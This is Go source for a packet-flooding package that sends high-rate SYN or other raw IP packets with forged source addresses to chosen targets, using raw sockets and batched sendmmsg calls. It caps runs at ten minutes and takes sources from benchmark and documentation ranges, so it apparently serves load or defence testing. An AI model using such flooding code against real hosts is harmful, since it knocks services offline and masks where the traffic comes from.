package flood

import (
	"cmp"
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"runtime"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Config says whom to flood, and for how long.
type Config struct {
	Targets  []netip.AddrPort // taken in turns, of either family
	Kind     Kind             // empty: SYN
	Rate     int              // packets a second, all targets together; 0: as many as one thread can send
	Duration time.Duration    // at most maxDuration
}

// Where the packets claim to come from: networks for benchmarks and documentation, which nobody has.
var (
	Sources4 = netip.MustParsePrefix("198.18.0.0/15")
	Sources6 = netip.MustParsePrefix("2001:db8:bad::/48")
)

// maxDuration bounds every flood.
const maxDuration = 10 * time.Minute

// Result is what was sent.
type Result struct {
	Began   time.Time     `json:"began"` // before the first packet
	Packets int           `json:"packets"`
	Took    time.Duration `json:"took"`
}

// Run floods until the duration is over or ctx ends.
func Run(ctx context.Context, config Config) (Result, error) {
	if len(config.Targets) == 0 || config.Duration <= 0 || config.Duration > maxDuration {
		return Result{}, fmt.Errorf("flood: needs a target, and a duration of at most %v", maxDuration)
	}
	config.Kind = cmp.Or(config.Kind, SYN)
	if err := config.Kind.valid(); err != nil {
		return Result{}, fmt.Errorf("flood: %w", err)
	}
	runtime.LockOSThread() // one thread, at full speed
	defer runtime.UnlockOSThread()
	batches := make([]*batch, 0, len(config.Targets))
	for _, target := range config.Targets {
		b, err := newBatch(target, config.Kind)
		if err != nil {
			return Result{}, fmt.Errorf("flood %s: %w", target, err)
		}
		defer b.close()
		batches = append(batches, b)
	}
	ctx, cancel := context.WithTimeout(ctx, config.Duration)
	defer cancel()
	r := Result{Began: time.Now()}
	for ctx.Err() == nil {
		for _, b := range batches {
			if config.Rate > 0 {
				time.Sleep(time.Until(r.Began.Add(time.Duration(float64(r.Packets) / float64(config.Rate) * float64(time.Second)))))
			}
			n, err := b.send()
			if err != nil {
				return r, fmt.Errorf("flood %s: %w", b.target, err)
			}
			r.Packets += n
		}
	}
	r.Took = time.Since(r.Began)
	return r, nil
}

// batchSize is how many packets one system call sends.
const batchSize = 64

// batch is the packets of one system call, and what it needs to send them.
type batch struct {
	target   netip.AddrPort
	socket   int
	random   *rand.Rand
	packets  [batchSize]packet
	vectors  [batchSize]unix.Iovec
	messages [batchSize]message
	address4 unix.RawSockaddrInet4
	address6 unix.RawSockaddrInet6
}

// message is the kernel's struct mmsghdr.
type message struct {
	header unix.Msghdr
	_      uint32 // how much of it was sent
	_      [4]byte
}

func newBatch(target netip.AddrPort, kind Kind) (*batch, error) {
	b := &batch{target: target, random: rand.New(rand.NewPCG(1, uint64(target.Port())))}
	family := unix.AF_INET
	if target.Addr().Is6() {
		family = unix.AF_INET6
	}
	var err error
	// IPPROTO_RAW: the packets have their own IP headers.
	if b.socket, err = unix.Socket(family, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW); err != nil {
		return nil, err
	}
	b.address4 = unix.RawSockaddrInet4{Family: unix.AF_INET}
	b.address6 = unix.RawSockaddrInet6{Family: unix.AF_INET6}
	name, size := unsafe.Pointer(&b.address4), uint32(unix.SizeofSockaddrInet4)
	if target.Addr().Is6() {
		b.address6.Addr = target.Addr().As16()
		name, size = unsafe.Pointer(&b.address6), unix.SizeofSockaddrInet6
	} else {
		b.address4.Addr = target.Addr().As4()
	}
	for i := range b.packets {
		b.packets[i] = template(target, kind, i)
		b.vectors[i].Base = &b.packets[i].data[0]
		b.vectors[i].SetLen(len(b.packets[i].data))
		h := &b.messages[i].header
		h.Name, h.Namelen = (*byte)(name), size
		h.Iov = &b.vectors[i]
		h.SetIovlen(1)
	}
	return b, nil
}

func (b *batch) close() { _ = unix.Close(b.socket) }

// send gives each packet another source, but those that follow another, and sends all.
func (b *batch) send() (int, error) {
	for i := range b.packets {
		if b.packets[i].follows {
			b.packets[i].follow(&b.packets[i-1], b.random)
		} else {
			b.packets[i].spoof(b.random)
		}
	}
	n, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(b.socket), uintptr(unsafe.Pointer(&b.messages[0])), batchSize, 0, 0, 0)
	switch {
	case errno == 0:
		return int(n), nil
	case errors.Is(errno, unix.ENOBUFS), errors.Is(errno, unix.EAGAIN), errors.Is(errno, unix.EINTR):
		return 0, nil // a queue is full: faster than the path
	}
	return 0, errno
}
